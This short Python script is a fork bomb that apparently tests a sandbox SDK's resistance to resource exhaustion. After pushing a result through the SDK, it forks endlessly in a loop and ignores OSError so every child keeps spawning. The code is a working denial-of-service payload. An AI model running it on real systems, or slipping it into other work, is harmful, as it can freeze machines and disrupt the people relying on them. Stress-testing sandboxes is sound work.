"""A fork bomb: every child forks as fast as it can."""

import contextlib
import os

from sdk import CoreSDK

CoreSDK.Result.push_data({"n": 1})
while True:
    with contextlib.suppress(OSError):
        os.fork()
